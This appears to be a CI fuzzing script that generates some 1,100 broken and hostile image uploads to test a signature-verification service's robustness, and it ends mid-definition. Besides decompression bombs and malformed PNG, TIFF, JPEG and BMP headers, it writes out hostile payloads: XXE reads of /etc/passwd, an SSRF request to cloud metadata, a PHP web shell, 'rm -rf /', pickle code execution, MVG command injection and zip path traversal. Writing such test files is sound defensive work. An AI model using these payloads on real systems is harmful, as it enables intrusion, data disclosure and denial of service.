"""Some 1,100 broken and hostile uploads, always the same ones.

    python .ci/hostile.py [FOLDER]      # count them, and write the files to FOLDER, to look at one

`uploads()` gives them as files, `requests()` as bytes for a socket. .ci/service.py sends them to the service."""

import base64, bz2, gzip, io, lzma, pickle, random, struct, sys, tarfile, zipfile, zlib
from collections import Counter
from pathlib import Path
import cv2
import numpy as np
from PIL import Image, PngImagePlugin
from signauth.synth import Writer

TYPES = dict(png='image/png', jpg='image/jpeg', webp='image/webp', tif='image/tiff', bmp='image/bmp')


def signature(i=0):
    return Image.fromarray(Writer(1).sign(i))


def letter(*signed):
    "A page of print with signatures side by side"
    paper = np.full((700, 900), 255, np.uint8)
    lines = [*['We have received your letter.'] * 7, '', 'Yours sincerely,']
    for k, line in enumerate(lines):
        cv2.putText(paper, line, (80, 80 + 45 * k), cv2.FONT_HERSHEY_SIMPLEX, 1, 0, 2)
    for i, ink in enumerate(signed):
        part = paper[450 : 450 + ink.shape[0], 60 + 430 * i : 60 + 430 * i + ink.shape[1]]
        np.minimum(part, 255 - ink, out=part)
    return paper


def saved(im, kind, **kw):
    im.save(b := io.BytesIO(), kind, **kw)
    return b.getvalue()


# --- good ones, which have to be answered ---
def good():
    "Name and bytes of every accepted format in the modes that scanners and phones write"
    im = signature()
    rgb, bilevel = im.convert('RGB'), im.convert('1')
    deep = Image.fromarray(np.asarray(im).astype(np.uint16) * 257)
    alpha = rgb.convert('RGBA')
    alpha.putalpha(im.point(lambda o: 255 - o))
    palette = rgb.quantize(16)
    few = im.point(lambda o: 255 if o > 180 else o).quantize(8)
    yield from good_pngs(im, rgb, bilevel, palette, alpha, deep)
    yield 'transparent.png', saved(few, 'PNG', transparency=few.getpixel((0, 0)))
    yield 'grey.jpg', saved(im, 'JPEG')
    yield 'rgb.jpg', saved(rgb, 'JPEG')
    yield 'progressive.jpg', saved(rgb, 'JPEG', progressive=True)
    yield 'cmyk.jpg', saved(rgb.convert('CMYK'), 'JPEG')
    yield 'full.jpg', saved(rgb, 'JPEG', quality=100, subsampling=0)
    yield 'lossy.webp', saved(rgb, 'WEBP')
    yield 'lossless.webp', saved(rgb, 'WEBP', lossless=True)
    yield 'alpha.webp', saved(alpha, 'WEBP')
    yield from good_tiffs(im, rgb, bilevel, palette, alpha, deep)
    for name, o in dict(grey=im, rgb=rgb, bilevel=bilevel, palette=palette).items():
        yield f'{name}.bmp', saved(o, 'BMP')


def good_pngs(im, rgb, bilevel, palette, alpha, deep):
    modes = dict(grey=im, rgb=rgb, bilevel=bilevel, palette=palette, alpha=alpha)
    modes |= dict(grey_alpha=alpha.convert('LA'), deep=deep)
    for name, o in modes.items():
        yield f'{name}.png', saved(o, 'PNG')


def good_tiffs(im, rgb, bilevel, palette, alpha, deep):
    compressed = dict(tiff_lzw=rgb, tiff_adobe_deflate=im, packbits=im, group4=bilevel, group3=bilevel, jpeg=rgb)
    yield 'raw.tif', saved(im, 'TIFF', compression=None)
    for compression, o in compressed.items():
        yield f'{compression}.tif', saved(o, 'TIFF', compression=compression)
    grey_levels = Image.fromarray(np.asarray(im, np.float32) / 255)
    modes = dict(deep=deep, float=grey_levels, cmyk=rgb.convert('CMYK'), palette=palette, alpha=alpha)
    for name, o in modes.items():
        yield f'{name}.tif', saved(o, 'TIFF')


def seeds():
    "One good file of each kind, to be broken"
    picked = 'grey.png palette.png deep.png rgb.jpg progressive.jpg cmyk.jpg lossy.webp lossless.webp alpha.webp'
    picked += ' raw.tif tiff_lzw.tif jpeg.tif grey.bmp palette.bmp'
    files = dict(good())
    return {name: files[name] for name in picked.split()}


def truncated():
    "Files that end too early"
    for name, b in seeds().items():
        for i in range(1, 17):
            yield f'{i / 17:.0%}-{name}', b[: len(b) * i // 17]
        yield f'last-byte-{name}', b[:-1]


def flipped():
    "Files with 1 to 128 flipped bits, half of them in the header, where they hurt most"
    for name, b in seeds().items():
        for i in range(16):
            rng, data = random.Random(f'{name}{i}'), bytearray(b)
            for _ in range(2 ** (i // 2)):
                data[rng.randrange(len(data) if i % 2 else min(len(data), 200))] ^= 1 << rng.randrange(8)
            yield f'{i}-{name}', bytes(data)


# --- PNG by hand ---


def chunk(kind, data=b'', crc=None):
    return (
        struct.pack('>I', len(data)) + kind + data + struct.pack('>I', zlib.crc32(kind + data) if crc is None else crc)
    )


def ihdr(w, h, depth=8, colour=0, compression=0, filter=0, interlace=0):
    return chunk(b'IHDR', struct.pack('>IIBBBBB', w, h, depth, colour, compression, filter, interlace))


def png(*chunks):
    return b'\x89PNG\r\n\x1a\n' + b''.join(chunks) + chunk(b'IEND')


def zeros(n):
    "`n` zeros, a multiple of 2²⁰, as zlib would pack them, but at once: the same block again and again"
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = c.compress(bytes(2**20)) + c.flush(zlib.Z_FULL_FLUSH)
    return b'\x78\xda' + block * (n >> 20) + b'\x03\x00' + struct.pack('>I', (n % 65521) << 16 | 1)


def pngs():
    row, pic = b'\0' + b'\xff' * 8, zlib.compress((b'\0' + b'\xff' * 8) * 8)
    ok = ihdr(8, 8)
    yield from {
        'no-ihdr': png(chunk(b'IDAT', pic)),
        'two-ihdr': png(ok, ihdr(9000, 9000), chunk(b'IDAT', pic)),
        'no-idat': png(ok),
        'no-iend': png(ok, chunk(b'IDAT', pic))[:-12],
        'idat-first': png(chunk(b'IDAT', pic), ok),
        'short-ihdr': png(chunk(b'IHDR', b'\0\0\0\1'), chunk(b'IDAT', pic)),
        'long-ihdr': png(chunk(b'IHDR', bytes(99)), chunk(b'IDAT', pic)),
        'wrong-crc': png(chunk(b'IHDR', struct.pack('>IIBBBBB', 8, 8, 8, 0, 0, 0, 0), crc=1), chunk(b'IDAT', pic)),
        'wrong-idat-crc': png(ok, chunk(b'IDAT', pic, crc=1)),
        'unknown-critical': png(ok, chunk(b'EVIL', b'x' * 99), chunk(b'IDAT', pic)),
        'chunk-of-2-gb': png(ok, struct.pack('>I', 2**31 - 1) + b'IDAT' + pic),
        'chunk-of-4-gb': png(ok, struct.pack('>I', 2**32 - 1) + b'tEXt' + pic),
        'idat-not-zlib': png(ok, chunk(b'IDAT', b'garbage' * 9)),
        'idat-too-short': png(ok, chunk(b'IDAT', zlib.compress(row * 3))),
        'idat-too-long': png(ok, chunk(b'IDAT', zeros(2**26))),
        'idat-bad-filter': png(ok, chunk(b'IDAT', zlib.compress((b'\x09' + b'\xff' * 8) * 8))),
        'idat-in-bytes': png(ok, *(chunk(b'IDAT', pic[i : i + 1]) for i in range(len(pic)))),
        'idat-with-dictionary': png(ok, chunk(b'IDAT', b'\x78\xbb\0\0\0\1' + pic[2:])),
        '200000-empty-idats': png(ok, chunk(b'IDAT') * 200_000, chunk(b'IDAT', pic)),
        '100000-texts': png(ok, chunk(b'tEXt', b'a\0b') * 100_000, chunk(b'IDAT', pic)),
        'huge-text': png(ok, chunk(b'tEXt', b'k\0' + b'x' * 9_000_000), chunk(b'IDAT', pic)),
        'ztxt-bomb': png(ok, chunk(b'zTXt', b'k\0\0' + zeros(2**30)), chunk(b'IDAT', pic)),
        'ztxt-many-bombs': png(ok, chunk(b'zTXt', b'k\0\0' + zeros(2**20)) * 2000, chunk(b'IDAT', pic)),
        'itxt-bomb': png(ok, chunk(b'iTXt', b'k\0\1\0\0\0' + zeros(2**30)), chunk(b'IDAT', pic)),
        'iccp-bomb': png(ok, chunk(b'iCCP', b'k\0\0' + zeros(2**30)), chunk(b'IDAT', pic)),
        'iccp-garbage': png(ok, chunk(b'iCCP', b'k\0\0garbage'), chunk(b'IDAT', pic)),
        'palette-missing': png(ihdr(8, 8, 8, 3), chunk(b'IDAT', pic)),
        'palette-odd': png(ihdr(8, 8, 8, 3), chunk(b'PLTE', bytes(100)), chunk(b'IDAT', pic)),
        'palette-short': png(ihdr(8, 8, 8, 3), chunk(b'PLTE', bytes(3)), chunk(b'IDAT', pic)),
        'trns-long': png(ok, chunk(b'tRNS', bytes(9999)), chunk(b'IDAT', pic)),
        'trns-empty': png(ok, chunk(b'tRNS'), chunk(b'IDAT', pic)),
        'gama-zero': png(ok, chunk(b'gAMA', bytes(4)), chunk(b'IDAT', pic)),
        'phys-zero': png(ok, chunk(b'pHYs', bytes(9)), chunk(b'IDAT', pic)),
        'phys-short': png(ok, chunk(b'pHYs', b'\1'), chunk(b'IDAT', pic)),
        'signature-only': b'\x89PNG\r\n\x1a\n',
        'after-the-end': png(ok, chunk(b'IDAT', pic)) + b'<script>alert(1)</script>' * 999,
        'actl-huge': png(ok, chunk(b'acTL', struct.pack('>II', 2**31 - 1, 0)), chunk(b'IDAT', pic)),
    }.items()
    for d, c in ((0, 0), (3, 0), (16, 3), (8, 1), (8, 5), (8, 7), (1, 2), (64, 0), (255, 255)):
        yield f'depth-{d}-colour-{c}', png(ihdr(8, 8, d, c), chunk(b'IDAT', pic))
    for i, k in enumerate(('compression', 'filter', 'interlace')):
        yield f'{k}-9', png(ihdr(8, 8, **{k: 9}), chunk(b'IDAT', pic))
    yield 'interlaced-cut', png(ihdr(800, 800, interlace=1), chunk(b'IDAT', zlib.compress(b'\0' * 999)))


# --- sizes that lie, and sizes that are true ---

SIZES = (0, 1, 3, 40_000, 65_535, 2**31 - 1, 2**31, 2**32 - 1)


def at(b, pos, fmt, *v):
    return b[:pos] + struct.pack(fmt, *v) + b[pos + struct.calcsize(fmt) :]


def ifd(*tags):
    "The start of a TIFF: tags as (number, type, count, value)"
    packed = b''.join(struct.pack('<HHII', *o) for o in tags)
    return b'II*\0\x08\0\0\0' + struct.pack('<H', len(tags)) + packed + bytes(4)


def grey_tiff(w, h, bits=8, compression=1, samples=1, offset=200, count=64, rows=None, photometric=1, extra=()):
    tags = [
        (256, 4, 1, w),
        (257, 4, 1, h),
        (258, 3, 1, bits),
        (259, 3, 1, compression),
        (262, 3, 1, photometric),
        (273, 4, 1, offset),
        (277, 3, 1, samples),
        (278, 4, 1, h if rows is None else rows),
        (279, 4, 1, count),
        *extra,
    ]
    return ifd(*sorted(tags)).ljust(offset if offset < 1000 else 200, b'\0') + bytes(64)


def lies():
    f = dict(good())
    jpg = f['grey.jpg']
    sof = jpg.index(b'\xff\xc0') + 5
    l = f['lossless.webp']
    v = f['lossy.webp']
    x = f['alpha.webp']
    for s in SIZES:
        yield f'{s}-wide.png', png(ihdr(s, 8), chunk(b'IDAT', zlib.compress(bytes(72))))
        yield f'{s}-high.png', png(ihdr(8, s), chunk(b'IDAT', zlib.compress(bytes(72))))
        yield f'{s}-square.png', png(ihdr(s, s), chunk(b'IDAT', zlib.compress(bytes(72))))
        for k, pos in (('wide', 18), ('high', 22)):
            yield f'{s}-{k}.bmp', at(f['grey.bmp'], pos, '<I', s)
        yield f'{s}-square.bmp', at(f['grey.bmp'], 18, '<II', s, s)
        yield f'{s}-wide.tif', grey_tiff(s, 8)
        yield f'{s}-high.tif', grey_tiff(8, s)
        yield f'{s}-square.tif', grey_tiff(s, s)
        if s < 2**16:
            yield f'{s}-high.jpg', at(jpg, sof, '>H', s)
            yield f'{s}-wide.jpg', at(jpg, sof + 2, '>H', s)
            yield f'{s}-square.jpg', at(jpg, sof, '>HH', s, s)
            yield f'{s}-lossy.webp', at(v, 26, '<HH', s & 0x3FFF, s & 0x3FFF)
    yield 'canvas-16777216.webp', at(x, 24, '<HBHB', 0xFFFF, 0xFF, 0xFFFF, 0xFF) if x[12:16] == b'VP8X' else x[:20]
    yield 'lossless-16384.webp', at(l, l.index(b'VP8L') + 9, '<I', 0xFFFFFFF)
    yield 'riff-of-4-gb.webp', at(v, 4, '<I', 2**32 - 1)
    yield 'riff-of-nothing.webp', at(v, 4, '<I', 0)
    yield 'chunk-of-4-gb.webp', at(v, 16, '<I', 2**32 - 1)
    yield 'no-frame.webp', b'RIFF' + struct.pack('<I', 22) + b'WEBPVP8X' + struct.pack('<I', 10) + bytes(10)
    yield 'fourcc.webp', v[:12] + b'EVIL' + v[16:]


sizes_refused = (30_000, 30_000), (60_000, 60_000), (50_001, 1000), (10**6, 10**6), (2**31 - 1, 1)
sizes_allowed = (60_000, 1), (1, 60_000), (60_000, 800), (800, 60_000), (50_000_000, 1), (1, 50_000_000)
sizes_allowed += (40_000, 2), (2, 40_000), (7000, 7000)


def white(w, h, depth=8, colour=0):
    "A PNG of zeros, which need few bytes"
    bits = w * depth * {0: 1, 2: 3, 6: 4}[colour]
    size = ((bits + 7) // 8 + 1) * h
    return png(ihdr(w, h, depth, colour), chunk(b'IDAT', zeros(size + 2**20 >> 20 << 20)))


def bombs():
    "Small files of many pixels; those below 50 megapixels are allowed and must not hurt either"
    for w, h in sizes_refused:
        yield f'{w}x{h}.png', white(w, h) if w * h < 2**30 else png(ihdr(w, h), chunk(b'IDAT', zeros(2**26)))
    for w, h in sizes_allowed:
        yield f'{w}x{h}-allowed.png', white(w, h)
    yield '7000x7000-rgba-deep-allowed.png', white(7000, 7000, 16, 6)
    yield '7000x7000-bilevel-allowed.png', white(7000, 7000, 1)
    grey = Image.new('L', (20_000, 20_000), 1)
    bilevel = Image.new('1', grey.size, 1)
    yield '20000x20000-tiff_adobe_deflate.tif', saved(grey, 'TIFF', compression='tiff_adobe_deflate')
    yield '20000x20000-group4.tif', saved(bilevel, 'TIFF', compression='group4')
    yield '20000x20000-.jpg', saved(grey, 'JPEG', quality=1)
    yield '8000x8000-.webp', saved(Image.new('L', (8000, 8000), 1), 'WEBP', lossless=True, method=0)
    runs = b'\xff\x00' * 1000 + b'\0\1'
    yield '60000x60000-rle.bmp', bmp(60_000, 60_000, bits=8, compression=1, data=runs)
    runs = (b'\xff\x00' * 23 + b'\x87\x00\0\0') * 6000 + b'\0\1'
    yield '6000x6000-rle-allowed.bmp', bmp(6000, 6000, bits=8, compression=1, data=runs)
    yield 'scans-of-49-megapixels.jpg', scans(7000, 7000, 2000)
    yield 'scans.jpg', scans(600, 300, 50_000)


def scans(w, h, n):
    "A progressive JPEG with many scans, none of which changes anything: a small file that is slow to read"
    im = saved(Image.new('L', (w, h), 'white'), 'JPEG', progressive=True, quality=1)
    cut = im.index(b'\xff\xda')
    end = im.index(b'\xff\xc4', cut) if b'\xff\xc4' in im[cut:] else len(im) - 2
    # one code, '0': end of band for 2¹⁴ blocks and more
    table = b'\xff\xc4' + struct.pack('>H', 2 + 17 + 1) + b'\x10' + bytes([1] + [0] * 15) + b'\xe0'
    blocks = ((w + 7) // 8) * ((h + 7) // 8)
    runs = -(-blocks // 16384)
    bits = ('0' + '0' * 14) * (runs - 1) + '0' + '0' * 14
    bits += '1' * (-len(bits) % 8)
    body = bytes(int(bits[i : i + 8], 2) for i in range(0, len(bits), 8)).replace(b'\xff', b'\xff\0')
    return im[:end] + table + (b'\xff\xda\0\x08\1\1\0\x01\x3f\x00' + body) * n + b'\xff\xd9'


def bmp(w, h, bits=24, compression=0, data=b'', colours=0, header=40, planes=1, offset=54):
    sizes = struct.pack('<IIII', 54 + len(data), 0, offset, header)
    what = struct.pack('<iiHHI', w, h, planes, bits, compression)
    return b'BM' + sizes + what + struct.pack('<IiiII', len(data), 0, 0, colours, 0) + data


def tiffs():
    px = 273, 4, 1
    yield from {
        'loop': b'II*\0\x08\0\0\0\0\0\x08\0\0\0',
        'no-tags': ifd(),
        'offset-past-the-end': b'II*\0\xff\xff\xff\x7f',
        '65535-tags': b'II*\0\x08\0\0\0\xff\xff',
        'big': b'II+\0\x08\0\0\0' + struct.pack('<QQ', 16, 2**63),
        'big-no-tags': b'MM\0+\0\x08\0\0' + struct.pack('>QQQ', 16, 0, 0),
        'strip-past-the-end': grey_tiff(8, 8, offset=10**9),
        'strip-of-4-gb': grey_tiff(8, 8, count=2**32 - 1),
        'strip-of-nothing': grey_tiff(8, 8, count=0),
        'rows-0': grey_tiff(8, 8, rows=0),
        'rows-2-32': grey_tiff(8, 8, rows=2**32 - 1),
        'bits-65535': grey_tiff(8, 8, bits=65535),
        'bits-0': grey_tiff(8, 8, bits=0),
        'bits-3': grey_tiff(8, 8, bits=3),
        'samples-65535': grey_tiff(8, 8, samples=65535),
        'samples-0': grey_tiff(8, 8, samples=0),
        'photometric-32803': grey_tiff(8, 8, photometric=32803),
        'strings-as-size': ifd((256, 2, 4, 0x41414141), (257, 2, 4, 0x41414141), (258, 3, 1, 8), px + (8,)),
        'rational-size': ifd((256, 5, 1, 8), (257, 5, 1, 8), (258, 3, 1, 8), px + (8,)),
        'counts-2-30': ifd((256, 4, 2**30, 8), (257, 4, 2**30, 8), (273, 4, 2**30, 8)),
        '10000-pages': b'II*\0\x08\0\0\0'
        + b''.join(struct.pack('<HHHIII', 1, 256, 4, 1, 8, 8 + 18 * (i + 1)) for i in range(10_000)),
        'tiles': grey_tiff(8, 8, extra=((322, 4, 1, 2**31), (323, 4, 1, 2**31), (324, 4, 1, 200), (325, 4, 1, 64))),
        'tiles-0': grey_tiff(8, 8, extra=((322, 4, 1, 0), (323, 4, 1, 0), (324, 4, 1, 200))),
        'sub-ifds': grey_tiff(8, 8, extra=((330, 4, 2**28, 8),)),
        'exif-loop': grey_tiff(8, 8, extra=((34665, 4, 1, 8),)),
        'gps-past-the-end': grey_tiff(8, 8, extra=((34853, 4, 1, 2**32 - 1),)),
        'icc-of-4-gb': grey_tiff(8, 8, extra=((34675, 7, 2**32 - 1, 8),)),
        'orientation-99': grey_tiff(8, 8, extra=((274, 3, 1, 99),)),
        'planar-9': grey_tiff(8, 8, samples=3, extra=((284, 3, 1, 9),)),
        'predictor-99': grey_tiff(8, 8, compression=5, extra=((317, 3, 1, 99),)),
        'format-complex': grey_tiff(8, 8, bits=64, extra=((339, 3, 1, 6),)),
        'nan': nan_tiff(),
    }.items()
    for c in (
        2,
        3,
        4,
        5,
        6,
        7,
        8,
        9,
        32771,
        32773,
        32809,
        32946,
        34661,
        34676,
        34712,
        34887,
        34925,
        50000,
        50001,
        65535,
    ):
        yield f'compression-{c}', grey_tiff(8, 8, compression=c)


def nan_tiff():
    a = np.full((64, 64), np.nan, np.float32)
    a[9:20, 9:50] = np.inf
    return saved(Image.fromarray(a), 'TIFF')


def segment(marker, data):
    return bytes([0xFF, marker]) + struct.pack('>H', len(data) + 2) + data


def without(b, marker):
    return b''.join(o for o in _segments(b) if o[1] != marker)


def jpegs():
    b = dict(good())['rgb.jpg']
    soi, rest = b[:2], b[2:]
    yield from {
        'only-soi': soi,
        'soi-eoi': b'\xff\xd8\xff\xd9',
        'segment-of-0': soi + b'\xff\xe0\0\0' + rest,
        'segment-of-1': soi + b'\xff\xe1\0\1' + rest,
        'fill': soi + b'\xff' * 10**6 + rest,
        'no-tables': without(b, 0xDB),
        'no-huffman': without(b, 0xC4),
        'no-frame': without(b, 0xC0),
        'no-scan': without(b, 0xDA),
        'two-frames': soi + segment(0xC0, b'\x08\xff\xff\xff\xff\1\1\x11\0') + rest,
        'precision-12': soi + segment(0xC0, b'\x0c\0\x08\0\x08\1\1\x11\0') + rest,
        'arithmetic': b.replace(b'\xff\xc0', b'\xff\xc9'),
        'lossless': b.replace(b'\xff\xc0', b'\xff\xc3'),
        'hierarchical': b.replace(b'\xff\xc0', b'\xff\xc5'),
        'components-0': soi + segment(0xC0, b'\x08\0\x08\0\x08\0') + rest,
        'components-255': soi + segment(0xC0, b'\x08\0\x08\0\x08\xff' + b'\1\x11\0' * 255) + rest,
        'sampling-0': soi + segment(0xC0, b'\x08\0\x08\0\x08\1\1\0\0') + rest,
        'restart-1': soi + segment(0xDD, b'\0\1') + rest,
        '10000-comments': soi + segment(0xFE, b'x' * 500) * 10_000 + rest,
        'two-images': b + b,
        'mpo': soi + segment(0xE2, b'MPF\0II*\0\x08\0\0\0\1\0\0\xb0\7\0\4\0\0\x000100') + rest,
        'adobe-99': soi + segment(0xEE, b'Adobe\0\x64\0\0\0\0\x63') + rest,
        'jfif-short': soi + segment(0xE0, b'JFIF\0') + rest,
        'thumbnail-lies': soi + segment(0xE0, b'JFIF\0\1\1\0\0\1\0\1\xff\xff') + rest,
        'photoshop-garbage': soi + segment(0xED, b'Photoshop 3.0\x008BIM' + b'\xff' * 99) + rest,
    }.items()


def _segments(b):
    "The parts of a JPEG, the entropy-coded data with its scan"
    i, res = 2, [b[:2]]
    while i < len(b) and b[i + 1] != 0xDA:
        n = 2 + struct.unpack('>H', b[i + 2 : i + 4])[0]
        res.append(b[i : i + n])
        i += n
    return res + [b[i:]]


def bmps():
    px = b'\xff' * 9999
    for name, kw in dict(
        header_0=dict(header=0),
        header_4gb=dict(header=2**32 - 1),
        header_13=dict(header=13),
        bits_0=dict(bits=0),
        bits_3=dict(bits=3),
        bits_65535=dict(bits=65535),
        colours_4gb=dict(bits=8, colours=2**32 - 1),
        colours_257=dict(bits=8, colours=257),
        rle8=dict(bits=8, compression=1),
        rle4=dict(bits=4, compression=2),
        fields=dict(bits=16, compression=3),
        jpeg=dict(compression=4),
        png=dict(compression=5),
        compression_99=dict(compression=99),
        planes_0=dict(planes=0),
        offset_4gb=dict(offset=2**32 - 1),
        offset_0=dict(offset=0),
    ).items():
        yield name, bmp(32, 32, data=px, **kw)
    yield 'minus-wide', bmp(-32, 32, data=px)
    yield 'top-down', bmp(32, -32, data=px)
    yield 'minus-2-31', bmp(32, -(2**31), data=px)
    yield 'os2', b'BM' + struct.pack('<IIIIHHHH', 999, 0, 26, 12, 65535, 65535, 1, 24)
    yield 'rle-jumps', bmp(32, 32, bits=8, compression=1, data=bytes(1024) + b'\0\2\xff\xff' * 5000)


def frames():
    "Files of several pictures"
    pages = [signature(i).resize((300, 150)) for i in range(3)]
    more = dict(save_all=True, append_images=pages[1:])
    yield 'animated.gif', saved(pages[0], 'GIF', duration=9, loop=0, **more)
    yield 'animated.webp', saved(pages[0], 'WEBP', duration=9, **more)
    yield 'apng.png', saved(pages[0], 'PNG', duration=9, **more)
    yield 'pages.tif', saved(pages[0], 'TIFF', **more)
    more = dict(save_all=True, append_images=[pages[1]] * 499)
    yield '500-pages.tif', saved(pages[0], 'TIFF', compression='tiff_adobe_deflate', **more)
    more = dict(save_all=True, append_images=[Image.new('L', (64, 64), i % 256) for i in range(300)])
    yield '300-frames.webp', saved(Image.new('L', (64, 64)), 'WEBP', minimize_size=False, **more)
    more = dict(save_all=True, append_images=[Image.new('L', (8, 8), i % 256) for i in range(1000)])
    yield '1000-frames.png', saved(Image.new('L', (8, 8)), 'PNG', **more)


with_notes = ('jpg', 'JPEG'), ('png', 'PNG'), ('webp', 'WEBP')
exif_notes = dict(
    garbage=b'Exif\0\0garbage',
    empty=b'Exif\0\0',
    loop=b'Exif\0\0II*\0\x08\0\0\0\1\0\x69\x87\4\0\1\0\0\0\x08\0\0\0\0\0\0\0',
    huge=b'Exif\0\0II*\0\x08\0\0\0' + b'\xff' * 60_000,
    counts=b'Exif\0\0II*\0\x08\0\0\0\1\0\x12\1\3\0\xff\xff\xff\xff\0\0\0\0',
    string=b'Exif\0\0II*\0\x08\0\0\0\1\0\x12\1\2\0\4\0\0\0abc\0\0\0\0\0',
)
icc_notes = dict(
    garbage=b'garbage',
    zeros=bytes(128),
    huge=b'\0\x10\0\0' + random.Random(1).randbytes(2**20),
    lies=b'\xff\xff\xff\xff' + b'acsp' * 99,
)


def notes():
    "EXIF, ICC, XMP and comments: orientations, garbage, more than the picture, and the place where it was taken"
    im = signature().convert('RGB')
    for orientation in (*range(10), 65535):
        exif = Image.Exif()
        exif[0x112] = orientation
        for ext, kind in with_notes:
            yield f'orientation-{orientation}.{ext}', saved(im, kind, exif=exif)
    gps = Image.Exif()
    gps[0x8825] = {1: 'N', 2: (52.0, 31.0, 12.0)}
    gps[0x10F] = 'signauth-secret-place'
    for name, exif in dict(gps=gps.tobytes(), **exif_notes).items():
        for ext, kind in with_notes:
            yield f'exif-{name}.{ext}', saved(im, kind, exif=exif)
    for name, icc in icc_notes.items():
        for ext, kind in (*with_notes, ('tif', 'TIFF')):
            yield f'icc-{name}.{ext}', saved(im, kind, icc_profile=icc)
    xmp = PngImagePlugin.PngInfo()
    xmp.add_itxt('XML:com.adobe.xmp', '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>')
    yield 'xmp-xxe.png', saved(im, 'PNG', pnginfo=xmp)
    yield 'xmp-huge.jpg', saved(im, 'JPEG', xmp=b'<x>' + b'y' * 60_000)
    yield 'comment.jpg', saved(im, 'JPEG', comment=b'<script>alert(1)</script>')


def heavy():
    "Honest images that ask for the most work: the worst for finding ink, the most pixels, the largest file"
    noise = {n: Image.fromarray(np.random.default_rng(0).integers(0, 256, (n, n), np.uint8)) for n in (2900, 3000)}
    yield 'noise.png', saved(noise[2900], 'PNG')
    yield 'noise.jpg', saved(noise[3000], 'JPEG', quality=90)
    dots = np.full((7000, 7000), 255, np.uint8)
    dots[::2, ::2] = 0
    yield 'dots-49-megapixels.png', saved(Image.fromarray(dots), 'PNG', compress_level=1)
    chess = (np.indices((7000, 7000)).sum(0) % 2 * 255).astype(np.uint8)
    yield 'chess-49-megapixels.png', saved(Image.fromarray(chess).convert('1'), 'PNG', compress_level=1)
    lines = np.tile(np.array([[0], [255]], np.uint8), (2000, 4000))
    yield 'lines.png', saved(Image.fromarray(lines), 'PNG')
    yield 'spiral.png', saved(Image.fromarray(spiral(2000)), 'PNG')
    yield 'large.jpg', saved(signature().convert('RGB').resize((8600, 5700)), 'JPEG', quality=60)
    for level in (0, 128, 255):
        yield f'plain-{level}.png', saved(Image.new('L', (600, 300), level), 'PNG')
    for w, h in ((1, 1), (1, 2), (2, 1), (3, 3), (7, 5000), (5000, 7), (16, 16)):
        yield f'ink-{w}x{h}.png', saved(signature().resize((w, h)), 'PNG')
    b = saved(signature(), 'PNG')
    for n in (10_000_000, 10_000_001, 10 * 2**20, 10 * 2**20 + 1):
        yield f'{n}-bytes.png', b + bytes(n - len(b))


def spiral(n):
    a = np.full((n, n), 255, np.uint8)
    for i in range(4, n // 2 - 4, 6):
        a[i, i : n - i] = a[n - i, i : n - i] = a[i : n - i, n - i] = a[i + 6 : n - i, i] = 0
        a[i + 6, i : i + 6] = 0
    return a


other_kinds = 'GIF ICO PPM PCX TGA DDS JPEG2000 IM SGI EPS PDF ICNS XBM MSP SPIDER PALM'


def in_mode(kind):
    "A signature in a mode that a format of Pillow can hold"
    im = signature()
    if kind in ('XBM', 'MSP'):
        return im.convert('1')
    if kind == 'SPIDER':
        return im.convert('F')
    return im.convert('RGB').quantize(2) if kind == 'PALM' else im.convert('RGB')


def svg(content, doctype=''):
    size = 'width="9" height="9"'
    return f'<?xml version="1.0"?>{doctype}<svg xmlns="http://www.w3.org/2000/svg" {size}>{content}</svg>'.encode()


def strangers():
    "Files of other kinds, whatever they call themselves"
    for kind in other_kinds.split():
        try:
            yield f'picture.{kind.lower()}', saved(in_mode(kind).resize((64, 32)), kind)
        except (OSError, KeyError):
            pass  # what this Pillow cannot write
    yield from {
        'script.svg': svg('<script>alert(1)</script>'),
        'xxe.svg': svg('<text>&a;</text>', '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>'),
        'ssrf.svg': svg('<image href="http://169.254.169.254/latest/meta-data/"/>'),
        'laughs.xml': b'<!DOCTYPE x [<!ENTITY a "ha">'
        + b''.join(b'<!ENTITY a%d "&a%d;&a%d;&a%d;">' % (i + 1, i, i, i) for i in range(30))
        + b']><x>&a30;</x>',
        'page.html': b'<!doctype html><script>alert(1)</script>',
        'shell.php': b'<?php system($_GET["c"]); ?>',
        'script.sh': b'#!/bin/sh\nrm -rf /\n',
        'evil.ps': b'%!PS\n(/etc/passwd) (r) file\nshowpage\n',
        'evil.eps': b'%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 99999 99999\n%%EndComments\n{loop} loop\n',
        'evil.mvg': b'push graphic-context\nfill \'url(https://x/"|ls")\'\n',
        'a.pdf': b'%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj\n',
        'a.psd': b'8BPS\0\1' + bytes(6) + struct.pack('>HIIHH', 3, 300_000, 300_000, 8, 3) + bytes(99),
        'a.elf': b'\x7fELF\2\1\1' + bytes(99),
        'a.exe': b'MZ' + bytes(58) + b'\x80\0\0\0' + bytes(64) + b'PE\0\0',
        'a.class': b'\xca\xfe\xba\xbe\0\0\0\x34',
        'a.wasm': b'\0asm\1\0\0\0',
        'os-system.pkl': b'cos\nsystem\n(S"touch /tmp/pwned"\ntR.',
        'list.pkl': pickle.dumps([1] * 99),
        'a.npy': b'\x93NUMPY\1\0v\0' + b"{'descr':'|O','fortran_order':False,'shape':(1,)}",
        'a.pt': zipped('archive/data.pkl', b'cos\nsystem\n(S"id"\ntR.'),
        'a.safetensors': struct.pack('<Q', 2**63) + b'{',
        'a.onnx': b'\x08\x07\x12\x04evil' * 99,
        'a.h5': b'\x89HDF\r\n\x1a\n' + bytes(99),
        'a.zip': zipped('../../etc/passwd', b'x'),
        'bomb.zip': zipped('0', bytes(2**24)),
        'a.docx': zipped('[Content_Types].xml', b'<x/>'),
        'bomb.gz': gzip.compress(bytes(2**26), mtime=0),
        'bomb.bz2': bz2.compress(bytes(2**24)),
        'bomb.xz': lzma.compress(bytes(2**24)),
        'a.zlib': zeros(2**30),
        'a.tar': tar(),
        'a.sqlite': b'SQLite format 3\0' + bytes(99),
        'a.heic': b'\0\0\0\x18ftypheic\0\0\0\0mif1heic' + bytes(99),
        'a.avif': b'\0\0\0\x1cftypavif\0\0\0\0mif1avif' + bytes(99),
        'a.mp4': b'\0\0\0\x20ftypisom' + bytes(99),
        'a.wav': b'RIFF' + struct.pack('<I', 99) + b'WAVEfmt ' + bytes(99),
        'a.avi': b'RIFF' + struct.pack('<I', 99) + b'AVI LIST' + bytes(99),
